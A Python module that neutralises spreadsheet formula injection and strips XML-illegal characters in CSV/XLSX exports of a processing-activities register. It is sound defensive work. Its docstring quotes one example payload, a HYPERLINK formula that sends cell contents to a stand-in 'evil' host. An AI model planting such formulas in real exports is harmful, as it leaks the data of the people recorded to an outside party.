"""Cell values made safe for spreadsheet programs: no formulas, no characters that break a file.

Formula injection (OWASP "CSV Injection", ASVS 1.2.10): a register entry named ``=HYPERLINK("http://evil/?"&A1)``
becomes a live formula when a RoPA export is opened in Excel, LibreOffice or WPS, and can send
cell contents elsewhere or run commands. OWASP's advice is followed: a text cell whose first
character (after leading spaces and line breaks) is ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading apostrophe, so the program shows it as text. The full-width forms ``＝＋－＠``
are treated the same: Chinese input methods type them, and some spreadsheet programs convert them.

Numbers stay numbers: a Python ``int``/``float`` cannot hold a formula, so counts are written as
numbers and sort and sum as such; only text is neutralised, even text that looks numeric
(``"-5"`` in a text field is written ``'-5``).

Control characters: XML 1.0, and so XLSX, cannot hold C0 controls other than tab, line feed and
carriage return, nor lone surrogates or U+FFFE/U+FFFF; openpyxl refuses them, which once made a
whole RoPA export fail because of one stored name. Input validation refuses them now, but rows
stored earlier (or written by other tools) may still hold them, so exports replace each with
U+FFFD (the replacement character) instead of failing.
"""

from __future__ import annotations

import datetime as dt
import re

#: First characters that make spreadsheet programs read a cell as a formula (OWASP), plus their
#: full-width forms.
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
#: What XML 1.0 cannot carry (C0 controls but tab/LF/CR, surrogates, U+FFFE, U+FFFF), and DEL.
UNSAFE_CHARACTERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
REPLACEMENT = "\ufffd"

Cell = str | int | float | None


def clean_text(text: str) -> str:
    """``text`` with every character a spreadsheet file cannot hold replaced by U+FFFD."""
    return UNSAFE_CHARACTERS.sub(REPLACEMENT, text)


def neutralise(text: str) -> str:
    """``text`` with a leading apostrophe when a spreadsheet program would run it as a formula."""
    if not text:
        return text
    if text[0] in FORMULA_TRIGGERS or text.lstrip()[:1] in FORMULA_TRIGGERS:
        return "'" + text
    return text


def safe_cell(value: object) -> Cell:
    """A value ready for a CSV or XLSX cell: numbers as numbers, everything else as safe text."""
    if value is None or isinstance(value, int | float):
        return value  # bool is an int: written as a number too, which no caller relies on
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    return neutralise(clean_text(str(value)))
